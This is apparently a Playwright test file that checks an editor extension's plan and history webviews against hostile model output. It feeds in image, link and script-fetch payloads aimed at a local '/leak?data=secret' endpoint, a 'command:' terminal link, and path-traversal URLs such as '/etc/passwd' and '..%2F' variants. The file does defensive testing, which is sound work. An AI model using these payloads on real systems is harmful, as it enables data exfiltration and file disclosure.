import type { FrameLocator, Page } from 'playwright-core';
import { openHost } from '../../../src/adapters/openHost';
import type { Planner } from '../../../src/core/plan/planner';
import { planSpec } from '../../../src/core/plan/planSpec';
import { savePlan } from '../../../src/core/plan/planStore';
import { hostileCase } from '../../support/hostile/hostileCase';
import { startStandIn } from '../../support/standIn/startStandIn';
import type { Workbench } from '../workbench';

const spec = '.openspec/spec.md';
const history = '.openspec/apply.md';

/** A plan and a history of a model that is hostile, as the window shows them. */
export function hostilePlan(workbench: () => Workbench): void {
	hostileCase(
		'model-16',
		'shows markup of a model and of a history as text, and asks nobody for a picture',
		async () => {
			const server = await startStandIn(() => ({ kind: 'answer', status: 200, body: '' }));
			const leak = `${server.origin}/leak?data=secret`;
			const texts = [
				`![picture](${leak}) [link](${leak}) <img src="${leak}">`,
				`<script>fetch("${leak}")</script> [run](command:workbench.action.terminal.new) <${leak}>`,
			].join(' ');
			const { folder } = workbench();
			workbench().changeOnDisk(
				history,
				text => `${text}\n## Cycle 9 — 2026-06-09\n\n### Propose\n\n${texts}\n\n### Status\n\n✅ APPLIED\n`,
			);
			workbench().changeOnDisk(spec, text => text.replace('Hello', 'Welcome'));
			await savePlan(openHost(folder), await planSaying(folder, texts));
			await workbench().openFile(spec);
			await workbench().openViewContainer('Spec-Driven Ops');
			const plan = await workbench().webview('Plan');
			await plan.getByText('![picture]').first().waitFor();
			const inPlan = await plan.locator('img, a[href^="command:"], iframe').count();
			await workbench().runCommand('Spec: Show Apply History');
			const timeline = await workbench()
				.webview('Apply history', 60_000)
				.catch(() => undefined);
			const inTimeline = timeline ? await timeline.locator('img, a[href^="command:"], iframe').count() : 0;
			await new Promise(resolve => setTimeout(resolve, 1000));
			await server.close();
			return {
				seen: { inPlan, inTimeline, requests: server.requests.length },
				promised: { inPlan: 0, inTimeline: 0, requests: 0 },
			};
		},
		{ timeoutMs: 120_000 },
	);

	hostileCase(
		'trust-06',
		'gives its webviews their own files, and none of the workspace, of the disk or of the rest of the extension',
		async () => {
			const { folder, page } = workbench();
			const views = [await workbench().webview('Plan'), await workbench().webview('Apply history')];
			const seen = [];
			for (const view of views) {
				const own = await view.locator('link[href$="/media/common.css"]').evaluate(link => link.getAttribute('href'));
				const beside = (path: string) => (own ?? '').replace('media/common.css', path);
				const disk = (path: string) => new URL(encodeURI(path), own ?? '').href;
				seen.push(
					await statusesOf(page, view, [
						own ?? '',
						disk(`${folder}/src/hello.py`),
						disk(`${folder}/${spec}`),
						disk('/etc/passwd'),
						beside('package.json'),
						beside('dist/extension.mjs'),
						beside('media/..%2F..%2Fpackage.json'),
						beside('media/%2e%2e/package.json'),
					]),
				);
			}
			const none = Array(7).fill(false);
			return { seen, promised: views.map(() => [true, ...none]) };
		},
		{ timeoutMs: 60_000 },
	);

	hostileCase(
		'trust-11',
		'is applied neither by a double click nor by keys that were meant for another place',
		async () => {
			const { page } = workbench();
			const plan = await workbench().webview('Plan');
			const apply = plan.getByRole('button', { name: /^Apply \d/ }).first();
			await apply.waitFor();
			await countDialogs(page);
			await apply.dblclick();
			const dialog = page.locator('.monaco-dialog-box');
			await dialog.waitFor();
			await page.keyboard.type('typed');
			await page.keyboard.press('Escape');
			await dialog.waitFor({ state: 'detached' });
			// A second question would come as soon as the first is answered.
			await new Promise(resolve => setTimeout(resolve, 1500));
			const dialogs = await page.evaluate(() => document.body.dataset.dialogs);
			return {
				seen: {
					dialogs,
					cycles: workbench().readFile(history).includes('NOTES.md'),
					file: workbench().hasFile('NOTES.md'),
				},
				promised: { dialogs: '1', cycles: false, file: false },
			};
		},
		{ timeoutMs: 60_000 },
	);
}

/** Whether a webview gets each of these files when its page asks for it as a style sheet. */
async function statusesOf(page: Page, view: FrameLocator, urls: readonly string[]): Promise<readonly boolean[]> {
	const got: boolean[] = [];
	for (const url of urls) {
		const answered = page.waitForResponse(response => response.url() === new URL(url).href, { timeout: 20_000 });
		await view.locator('body').evaluate((body, href) => {
			const link = body.ownerDocument.createElement('link');
			link.rel = 'stylesheet';
			link.href = href;
			body.append(link);
		}, url);
		got.push((await answered).ok());
	}
	return got;
}

/** Count the modal dialogs that appear from now on. */
async function countDialogs(page: Page): Promise<void> {
	await page.evaluate(() => {
		const count = () => Number(document.body.dataset.dialogs ?? 0);
		const isDialog = (node: Node) => node instanceof Element && node.matches('.monaco-dialog-modal-block');
		new MutationObserver(changes => {
			const added = changes.flatMap(({ addedNodes }) => [...addedNodes]).filter(isDialog);
			document.body.dataset.dialogs = String(count() + added.length);
		}).observe(document.body, { childList: true, subtree: true });
	});
}

/** A plan of one new file whose words are hostile. */
async function planSaying(folder: string, words: string) {
	const planner: Planner = {
		id: 'anthropic',
		propose: async ({ changes }) => {
			const requirements = changes.map(({ id }) => id);
			return {
				kind: 'proposed',
				planner: { id: 'anthropic', model: words },
				edits: [{ op: 'create', path: 'NOTES.md', text: 'Welcome\n', reason: words, selected: true, requirements }],
				states: new Map(requirements.map(id => [id, 'edits'])),
				verify: [],
				unresolved: [],
				assumptions: [{ decision: words, alternatives: [words], suggestion: words, section: words, accepted: false }],
				summary: words,
				notes: [words],
			};
		},
	};
	const token = { isCancellationRequested: false, onCancellationRequested: () => ({ dispose: () => {} }) };
	const outcome = await planSpec(openHost(folder), spec, { planner }, token);
	if (outcome.kind !== 'planned') {
		throw new Error(JSON.stringify(outcome));
	}
	return outcome.plan;
}
